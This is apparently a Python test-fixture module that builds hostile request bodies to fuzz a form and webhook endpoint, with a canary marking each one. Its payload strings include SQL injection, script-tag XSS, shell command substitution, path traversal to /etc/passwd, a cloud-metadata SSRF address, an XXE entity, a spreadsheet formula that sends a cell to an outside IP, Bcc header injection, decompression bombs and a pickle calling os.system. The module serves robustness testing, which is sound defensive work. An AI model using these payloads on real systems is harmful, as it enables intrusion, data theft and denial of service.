"""Bodies that are meant to hurt, by category: made here, not kept. In each a canary that no answer may repeat."""

import gzip
import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from tests.schemas.json_grammar import INVALID, VALID

CANARY = "kanari7f3a"
JSON, FORM = "application/json", "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=x"
CAP = 512 * 1024
# What the forms of every plugin call an address, a box and a number, so that each text comes where it is read.
ADDRESS_KEYS = ("email", "your-email", "2", "E-Mail", "email-1", "email_1", "your_email", "billing.email", "Email")
BOX_KEYS = ("newsletter", "gdpr-consent", "5.1", "consent", "Consent", "offers", "topics", "consent-1", "checkbox")
OTHER_KEYS = ("id", "entry_id", "date_created", "created", "created_at", "first_name", "first-name", "1.3", "company")


@dataclass(frozen=True)
class Hostile:
    name: str
    raw: bytes
    media_type: str = JSON
    encoding: str | None = None


def document(value: Any, address: Any = None, box: Any = None) -> dict[str, Any]:
    """`value` wherever anybody reads: a form's field, a Stripe event's, an order's, a receipt's, a push's."""
    fields = dict.fromkeys(OTHER_KEYS, value)
    fields |= dict.fromkeys(ADDRESS_KEYS, value if address is None else address)
    fields |= dict.fromkeys(BOX_KEYS, value if box is None else box)
    person = {"email": fields["email"], "name": value, "first_name": value, "id": value}
    session = {"id": value, "object": value, "customer": value, "customer_details": person, "customer_email": value}
    session |= {"custom_fields": [{"key": value, "type": value, "dropdown": {"value": value}}], "metadata": person}
    return fields | {
        "type": "checkout.session.completed",
        "data": {"object": session | {"payment_status": value, "consent": value}, "previous_attributes": value},
        "livemode": value,
        "api_version": value,
        "related_object": {"id": value, "type": value, "url": value},
        "billing": person,
        "meta_data": [{"key": value, "value": value}],
        "fields": {"email": {"id": value, "type": value, "value": fields["email"], "raw_value": value}},
        "ledger": {"checkpoint": value, "entries": [{"leaf": value, "position": value}]},
        "message": {"data": value, "messageId": value},
        "subscription": value,
        CANARY: value,
    }


def of_json(name: str, value: Any, **changes: Any) -> Hostile:
    return Hostile(name, json.dumps(document(value, **changes), ensure_ascii=False).encode("utf-8", "surrogatepass"))


def syntax() -> Iterator[Hostile]:
    for kind, grammar in (("valid", VALID), ("invalid", INVALID)):
        # One of three: all of them go through the parser itself (tests/schemas/test_strict_json.py).
        yield from (Hostile(f"{kind} {number}", raw) for number, raw in enumerate(grammar[::3]))
    canary = CANARY.encode()
    yield Hostile("duplicate keys", b'{"email":"a@%b.test","email":"b@%b.test"}' % (canary, canary))
    yield Hostile("duplicate keys, escaped", b'{"email":"a@%b.test","\\u0065mail":"b@%b.test"}' % (canary, canary))
    for constant in (b"NaN", b"Infinity", b"-Infinity", b"1e400", b"-1e400", b"1e-400"):
        yield Hostile(f"constant {constant!r}", b'{"%b":%b}' % (canary, constant))
    for digits in (19, 400, 401, 5_000, 400_000):
        yield Hostile(f"an integer of {digits} digits", b'{"%b":%b}' % (canary, b"9" * digits))
        yield Hostile(f"a fraction of {digits} digits", b'{"%b":0.%b}' % (canary, b"1" * digits))
    for escape in (b"\\ud800", b"\\udc00\\ud800", b"\\u0000", b"\\uffff", b"\\ufeff"):
        yield Hostile(f"escaped {escape!r}", json.dumps(document("EVIL")).encode().replace(b"EVIL", escape))
    text = json.dumps(document(CANARY))
    for charset in ("utf-16", "utf-16-le", "utf-32", "utf-7", "utf-8-sig", "latin-1"):
        yield Hostile(f"in {charset}", text.replace("kanari", "kanariæ").encode(charset))
    yield Hostile("a NUL", text.encode().replace(b"kanari", b"kan\0ari"))


def types() -> Iterator[Hostile]:
    values = (None, True, False, 0, -1, 1.5, 1e308, 2**63 - 1, "", " ", [], {}, [[]], [{}], {"": ""}, [None, True, "a"])
    for value in values:
        yield of_json(f"everything is {value!r}", value)
    yield of_json("everything is everything", document(document(CANARY)))
    for value in values:
        yield Hostile(f"a list of {value!r}", json.dumps([value, document(value)]).encode())


STRINGS = {
    "control characters": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "line ends": "a\r\nb\nc\rd\x0be\x0cf\x85g\u2028h\u2029i",
    "bidi": "\u202eevil\u202c \u2066a\u2069 \u200f\u200e\u061c",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164",
    "ANSI": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m",
    "a log line": 'a"}\n{"level":"info","event":"recorded","inbox_id":1}',
    "a template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}{%print(7)%}%(a)s{0.__class__}",
    "SQL": "'; DROP TABLE inbox; --\" OR 1=1 /* \\' UNION SELECT * FROM vault",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;&amp;&#x0;",
    "a formula": '=HYPERLINK("http://198.51.100.1?x="&A1)\t+1-1@SUM(A1)|cmd',
    "a header": "a\r\nBcc: b@example.test\r\n\r\nbody",
    "a path": "../../../../etc/passwd\\..\\windows%2e%2e%2f\x01file:///etc/passwd",
    "a shell": "$(touch /tmp/a)`id`;id|id&&id\n",
    "an address of a cloud": "http://169.254.169.254/latest/ http://0x7f.1/ http://[::ffff:127.0.0.1]/ http://a@b@c/",
    "non-characters": "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0",
    "marks on marks": "a" + "\u0301" * 5_000,
    "one huge emoji": "\U0001f469\u200d" * 500,
    "ligatures": "\ufdfa" * 500,
    "digits of the world": "\u0661\u0662\uff11\U0001d7d8\u2460\u00b2\u2168",
}
ADDRESSES = {
    "a capital": f"{CANARY.upper()}@EXAMPLE.TEST",
    "a tag": f"{CANARY}+news@example.test",
    "dots": f"k.a.n.a.r.i..{CANARY}@example.test",
    "an IDN": f"{CANARY}@blåbær.test",
    "a decomposed IDN": f"{CANARY}@bla\u030abær.test",
    "a full-width sign": f"{CANARY}\uff20example.test",
    "a full-width dot": f"{CANARY}@example\uff0etest",
    "a full-width letter": f"\uff4b{CANARY}@example.test",
    "a Cyrillic letter": f"{CANARY}\u0430@example.test",
    "a zero-width space": f"{CANARY}\u200b@example.test",
    "a Kelvin sign": f"\u212a{CANARY}@example.test",
    "a sharp s": f"{CANARY}\u00df@stra\u00dfe.test",
    "a display name": f'"Kari, Nordmann" <{CANARY}@example.test>',
    "a mailto": f"mailto:{CANARY}@example.test?bcc=a@example.test",
    "two of them": f"{CANARY}@example.test,ola@example.test",
    "quotes": f'"{CANARY}\\"@a"@example.test',
    "a comment": f"{CANARY}(a)@example.test",
    "a literal": f"{CANARY}@[127.0.0.1]",
    "an IPv6 literal": f"{CANARY}@[IPv6:::1]",
    "percent": f"{CANARY}%example.test@relay.test",
    "a bang": f"relay!{CANARY}",
    "many signs": "@" * 100_000,
    "a long local part": "a" * 100_000 + "@example.test",
    "a long domain": f"{CANARY}@" + "a." * 50_000 + "test",
    "a long label": f"{CANARY}@" + "a" * 100_000 + ".test",
    "a long IDN label": f"{CANARY}@" + "å" * 100_000 + ".test",
    "a long A-label": f"{CANARY}@xn--" + "a" * 100_000 + ".test",
    "a broken A-label": f"{CANARY}@xn--\u00e5-.xn--zzzzzzz.test",
    "joiners": f"{CANARY}@" + "\u200d" * 10_000 + ".test",
    "a new line": f"{CANARY}@example.test\r\nBcc: a@example.test",
    "nothing but spaces": " " * 100_000,
}


def strings() -> Iterator[Hostile]:
    for name, text in STRINGS.items():
        yield of_json(name, f"{CANARY}{text}")
        yield of_json(f"{name}, in the address", CANARY, address=f"{CANARY}{text}@example.test", box="1")
        yield of_json(f"{name}, in the box", CANARY, address=f"{CANARY}@example.test", box=text)
        yield Hostile(f"{name}, as a key", json.dumps({f"{CANARY}{text}": {f"{text}": f"{text}"}}).encode())
    for name, text in ADDRESSES.items():
        yield of_json(f"address: {name}", 17, address=text, box="yes")


def shapes() -> Iterator[Hostile]:
    canary = CANARY.encode()
    for depth in (32, 33, 100, 100_000):
        yield Hostile(f"{depth} lists deep", b"[" * depth + b'"%b"' % canary + b"]" * depth)
        depth = min(depth, 30_000)  # as many as fit
        yield Hostile(f"{depth} objects deep", b'{"%b":' % canary * depth + b"1" + b"}" * depth)
    yield of_json("JSON in JSON, deep", "[" * 100 + "]" * 100)
    yield of_json("JSON in JSON, deeper", '{"a":' * 5_000)
    yield of_json("JSON in JSON in JSON", json.dumps(json.dumps(json.dumps(document(CANARY)))))
    for keys in (1_000, 1_999, 2_100):
        yield Hostile(f"{keys} keys", json.dumps({f"{CANARY}{number}": number for number in range(keys)}).encode())
        yield Hostile(f"{keys} objects", json.dumps([{CANARY: number} for number in range(keys)]).encode())
    lists = {"numbers": "1,", "lists": "[],", "texts": '"",', "escapes": '"\\u0041",'}
    for name, unit in lists.items():
        yield Hostile(f"all {name}", b"[" + unit.encode() * ((CAP - 10) // len(unit)) + b"1]")
    units = {
        "digits": "4",
        "cards": "4111 1111 1111 1111 ",
        "identity numbers": "01019012345 ",
        "dashes": "1-",
        "dots": ".",
    }
    units |= {"entities": "&amp;", "emoji": "\U0001f600", "backslashes": "\\", "pairs": "a||"}
    for name, unit in units.items():
        text = unit * ((CAP - 100) // (len(json.dumps(unit, ensure_ascii=False).encode()) - 2))
        yield Hostile(f"a text of {name}", json.dumps({"email": text, "type": "a"}, ensure_ascii=False).encode())
        yield Hostile(f"a key of {name}", json.dumps({text: CANARY, "type": "a"}, ensure_ascii=False).encode())
    yield Hostile("a megabyte", b'{"%b":"%b"}' % (canary, b"k" * 1_000_000))
    yield Hostile("a megabyte of white space", b" " * 1_000_000)


def forms() -> Iterator[Hostile]:
    canary = CANARY.encode()
    many = range(499)
    for name, raw in {
        "empty": b"",
        "separators": b"&" * 400_000,
        "equals": b"=" * 400_000,
        "twice": b"email=a@%b.test&email=b" % canary,
        "twice, escaped": b"email=%b&%%65mail=b" % canary,
        "half an escape": b"email=%b%%4" % canary,
        "NUL": b"email=a%00b",
        "not UTF-8": b"email=%ff%fe",
        "overlong": b"email=%c0%af",
        "a surrogate": b"email=%ed%a0%80",
        "a BOM": b"\xef\xbb\xbfemail=a",
        "many": b"&".join(b"%b%d=1" % (canary, number) for number in many),
        "too many": b"&".join(b"a%d=1" % number for number in range(10_000)),
        "brackets": b"a" + b"[b]" * 100_000 + b"=1",
        "brackets, open": b"a" + b"[" * 100_000 + b"=1",
        "brackets, many": b"&".join(b"fields[%d][email][%d]=%b" % (number, number, canary) for number in many),
        "brackets, clashing": b"fields=1&fields[email]=a&fields[email][value]=b&fields[]=c&[email]=d&fields[email=e",
        "percent": b"a=" + b"%41" * 150_000,
        "plus": b"a=" + b"+" * 400_000,
        "a long name": b"a" * 500_000 + b"=1",
        "JSON": json.dumps(document(CANARY)).encode(),
        "JSON in a field": b"email=%7B%22" + canary + b"%22%3A" * 20_000,
        "a withdrawal": b"List-Unsubscribe=One-Click&" + canary,
        "a confirmation": b"confirm=1&%b=1" % canary,
        "UTF-16": "email=a@b.test".encode("utf-16"),
        "semicolons": b"email=a;b=c;" * 30_000,
    }.items():
        yield Hostile(f"form, {name}", raw, FORM)
    for name, text in STRINGS.items():
        escaped = "".join(f"%{byte:02X}" for byte in f"{CANARY}{text}".encode())
        fields = "&".join(f"{key}={escaped}" for key in (*ADDRESS_KEYS, *BOX_KEYS))
        yield Hostile(f"form, {name}", f"{fields}&{escaped}=1".encode()[: CAP - 1], FORM)


def wrappings() -> Iterator[Hostile]:
    """Compressed, in parts, or called what it is not."""
    text = json.dumps(document(CANARY)).encode()
    bomb = b"0" * 50_000_000
    yield Hostile("gzip", gzip.compress(text), encoding="gzip")
    yield Hostile("a gzip bomb", gzip.compress(bomb, 1), encoding="gzip")
    yield Hostile("a deflate bomb", zlib.compress(bomb, 1), encoding="deflate")
    yield Hostile("gzip that says it is not", gzip.compress(text))
    yield Hostile("plain that says it is gzip", text, encoding="gzip")
    yield Hostile("twice gzip", gzip.compress(gzip.compress(text)), encoding="gzip, gzip")
    part = b"--x\r\nContent-Disposition: form-data; name=%b\r\n\r\n1\r\n"
    yield Hostile("10,000 parts", part % b"a" * 10_000 + b"--x--", MULTIPART)
    yield Hostile("parts without an end", part % CANARY.encode() * 20, MULTIPART)
    yield Hostile("a part without a name", b"--x\r\n\r\n1\r\n--x--", MULTIPART)
    yield Hostile("a confirmation in parts", part % b"confirm" + b"--x--", MULTIPART)
    yield Hostile("a boundary of 5,000 bytes", b"--x--", "multipart/form-data; boundary=" + "x" * 5_000)
    yield Hostile("no boundary", b"--x--", "multipart/form-data")
    for media_type in (
        "",
        "text/plain",
        "application/xml",
        "application/json; charset=utf-16",
        "application/json;;;",
        "a",
    ):
        yield Hostile(f"called {media_type!r}", text, media_type)
    yield Hostile("JSON that says it is a form", text, FORM)
    yield Hostile(
        "XML", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "text/xml"
    )
    yield Hostile(
        "a pickle", b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."
    )


CATEGORIES = (syntax, types, strings, shapes, forms, wrappings)


def bodies() -> Iterator[Hostile]:
    for category in CATEGORIES:
        yield from category()
